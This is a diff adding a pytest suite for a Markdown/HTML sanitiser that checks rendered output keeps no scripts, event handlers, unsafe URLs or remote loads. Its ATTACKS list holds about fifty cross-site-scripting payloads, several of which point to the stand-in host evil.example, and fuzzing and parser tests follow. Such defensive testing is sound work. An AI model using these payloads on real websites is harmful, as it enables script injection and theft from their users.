@@ -1,0 +1,230 @@
+"""What may be handed to any reader: nothing that runs, loads unseen, or leads nowhere."""
+
+from __future__ import annotations
+
+import re
+import time
+import warnings
+
+import html5lib
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from broadsheet.markup import Library, Links, dropped_tags, render
+from broadsheet.markup.sanitise import DEEPEST, sanitise
+
+SITE = "https://example.org/"
+LINKS = Links(Library(SITE), "a.md", "https://example.org/a/")
+ADDRESSES = {"href", "src", "poster", "cite"}
+ALLOWED = ("http:", "https:", "mailto:", "tel:", "xmpp:", "magnet:", "geo:", "data:image/")
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<<script>script>alert(1)<</script>/script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x ONERROR = alert(1) //",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
+    "<a href='javascript:alert(1)'>a</a>",
+    "<a href=' &#1;javascript:alert(1)'>a</a>",
+    "<a href='java&#10;script:alert(1)'>a</a>",
+    "<a href='&#106;avascript&colon;alert(1)'>a</a>",
+    "<a href='vbscript:x'>a</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
+    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
+    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
+    "<video poster='javascript:alert(1)' src='data:text/html,x' autoplay></video>",
+    "<blockquote cite='javascript:alert(1)'>a</blockquote>",
+    "<td style='background:url(javascript:alert(1))'>a</td>",
+    "<table><tr><td style='text-align:left;background:url(//evil.example)'>a</td></tr></table>",
+    "<p style='position:fixed'>a</p>",
+    "<style>@import '//evil.example';</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<form action=//evil.example><input name=a><button formaction=javascript:x>b</button></form>",
+    "<object data=//evil.example><param name=a value=javascript:x></object>",
+    "<embed src=//evil.example>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='javascript:alert(1)'>a</iframe>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<details open ontoggle=alert(1)>a</details>",
+    "<a id=x name=y class=z target=_top ping=//evil.example href=/b>a</a>",
+    "[a](javascript:alert(1))",
+    "[a](<java\tscript:alert(1)>)",
+    "![a](data:text/html;base64,PHNjcmlwdD4=)",
+    "<javascript:alert(1)>",
+    "[a]: javascript:alert(1)\n\n[a]",
+    '[a](x "onmouseover=alert(1)")',
+    '![x" onerror="alert(1)](y)',
+    '{{< figure src="x\\" onerror=\\"alert(1)" >}}',
+    '{{< youtube "><script>alert(1)</script>" >}}',
+]
+
+
+def identity(address: str) -> str:
+    return address
+
+
+def parsed(html: str) -> object:
+    """The tree of `html`; raises where it is not written as HTML asks."""
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        return html5lib.HTMLParser(
+            html5lib.treebuilders.getTreeBuilder("etree"), strict=True, namespaceHTMLElements=False
+        ).parseFragment(html)
+
+
+def deepest(html: str) -> int:
+    """How many tags lie within each other where it is deepest; every one is closed."""
+    depth = most = 0
+    for tag in re.findall(r"<(/?)\w", html):
+        depth += -1 if tag else 1
+        most = max(most, depth)
+    assert depth == 0
+    return most
+
+
+def assert_harmless(html: str) -> None:
+    """Only tags and attributes of the list are left, and addresses that a reader may follow."""
+    tree = parsed(html)
+    for element in tree.iter():  # type: ignore[attr-defined]
+        assert element.tag not in {"script", "style", "svg", "math", "iframe", "form", "object"}
+        for name, value in element.attrib.items():
+            assert not name.startswith("on")
+            assert name not in {"id", "name", "target", "ping", "formaction", "action", "srcdoc"}
+            assert name != "style" or re.fullmatch(r"text-align:\w+", value)
+            assert name not in ADDRESSES or value.startswith(ALLOWED), value
+            assert name != "srcset" or all(
+                candidate.startswith(("http:", "https:")) for candidate in value.split(", ")
+            )
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_attack_gets_through(attack: str) -> None:
+    """Whatever it is written as, nothing is left that runs, sends, or is no web address."""
+    html = render(f"before\n\n{attack}\n\nafter", LINKS).html
+    assert_harmless(html)
+    assert "before" in html
+    assert_harmless(render(f"within {attack} a line", LINKS).html)
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        ('<a href="x">a</a>', '<a href="@x">a</a>'),
+        ('<img src="x">', '<img src="@x">'),
+        ('<img srcset="a.png 1x, b.png 2x">', '<img srcset="@a.png 1x, @b.png 2x">'),
+        ('<video src="x" poster="y"></video>', '<video src="@x" poster="@y"></video>'),
+        ('<q cite="x">a</q>', '<q cite="@x">a</q>'),
+        ('<del cite="x">a</del>', '<del cite="@x">a</del>'),
+    ],
+)
+def test_every_kind_of_address_is_resolved(html: str, expected: str) -> None:
+    """href, src, srcset, poster and cite are all made absolute."""
+    assert sanitise(html, lambda address: SITE + address) == expected.replace("@", SITE)
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        ('<iframe src="https://v.example/1"></iframe>', "https://v.example/1</a></p>"),
+        ('<iframe title="T" src="https://v.example/1"></iframe>', ">T</a></p>"),
+        ('a <iframe src="https://v.example/1">b</iframe>', 'a <a href="https://v.example/1">'),
+        ("<input type=checkbox checked disabled> a", "☑ a"),
+        ('<input type="checkbox"> a', "☐ a"),
+        ("<noscript><img src=https://i.example/x></noscript>", '<img src="https://i.example/x">'),
+        ("<object><p>a</p></object>", "<p>a</p>"),
+    ],
+)
+def test_what_would_be_lost_is_kept_in_a_plainer_form(html: str, expected: str) -> None:
+    """A frame becomes a link to it, a check box a character, a fallback stands for itself."""
+    assert expected in sanitise(html, identity)
+
+
+def test_a_picture_written_into_the_article_stays() -> None:
+    """It loads nothing, and without it the picture would be lost; a drawing may have scripts."""
+    pixel = "data:image/png;base64,iVBORw0KGgo="
+    assert render(f"![p]({pixel})", LINKS).html == f'<p><img alt="p" src="{pixel}"></p>'
+    assert "data:" not in render("![p](data:image/svg+xml;base64,PHN2Zz4=)", LINKS).html
+    assert "data:" not in render(f"[p]({pixel})", LINKS).html
+
+
+def test_what_marks_up_words_stays() -> None:
+    """Ruby, details, tables' alignment, languages of code and the like are an author's means."""
+    for html in (
+        "<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>",
+        '<details open=""><summary>a</summary>b</details>',
+        '<p lang="en" dir="ltr" title="t">a<sub>1</sub><kbd>x</kbd></p>',
+        '<pre><code class="language-c++">a</code></pre>',
+        "<pre>\n\na</pre>",
+        '<ol start="3" reversed=""><li value="7">a</li></ol>',
+    ):
+        assert sanitise(html, identity) == html
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<a href=/x>a<a href=/y>b</a></a>",
+        "<p>a<p>b</p></p>",
+        "<a href=/x><object><a href=/y>b</a></object></a>",
+        "<p><object><p>a</p></object></p>",
+        "<p><button><p>a</p></button></p>",
+        "<table>a<tr>b<td>c",
+        "<li><table><li>a",
+        "<b><p>a</b>b",
+        "<ul><li>a<ul><li>b",
+        "<select><option><a href=/x>b</a></select>",
+        "</p></div><td>a",
+    ],
+)
+def test_what_is_written_is_what_will_be_read(html: str) -> None:
+    """Broken HTML comes out balanced, without a link in a link or a paragraph in a paragraph."""
+    once = sanitise(html, identity)
+    parsed(once)
+    assert sanitise(once, identity) == once
+    assert not re.search(r"<a\b[^>]*>(?:(?!</a>).)*<a\b", once)
+    assert not re.search(r"<p\b[^>]*>(?:(?!</p>).)*<p\b", once)
+
+
+def test_tags_that_go_are_named_with_their_place() -> None:
+    """`check` can tell the author which tags no reader gets."""
+    assert list(dropped_tags("a <form><b>c</b></form><script>")) == [("form", 2), ("script", 23)]
+
+
+@pytest.mark.parametrize("tag", ["<div>", "<b>", "<blockquote>", "<ul><li>", "<object><p>", "<x>"])
+def test_tags_too_deep_go_and_their_words_stay(tag: str) -> None:
+    """Ten thousand open tags take no longer than others of their length."""
+    started = time.perf_counter()
+    html = sanitise(tag * 10_000 + "words", identity)
+    assert time.perf_counter() - started < 5
+    assert "words" in html
+    assert deepest(html) <= 2 * DEEPEST
+
+
+PIECES = st.sampled_from(
+    [*"<>/=\"' \n&;", "a", "p", "div", "<a href=", "</a>", "<p>", "<table>", "<td>", "<svg>", "on",
+     "<script>", "</", "<!--", "-->", "javascript:", "<img src=x ", "style=", "&#106;", "<object>",
+     "<pre>", "<li>", "<ul>", "<b>", "<select>", "<textarea>", "<title>", "<math>", "<noscript>"]
+)  # fmt: skip
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(PIECES, max_size=25).map("".join))
+def test_any_html_comes_out_harmless_and_settled(html: str) -> None:
+    """Whatever the pieces, the outcome parses strictly, is harmless, and stays what it is."""
+    once = sanitise(html, lambda address: SITE + "x" if address else SITE)
+    assert_harmless(once)
+    assert sanitise(once, identity) == once
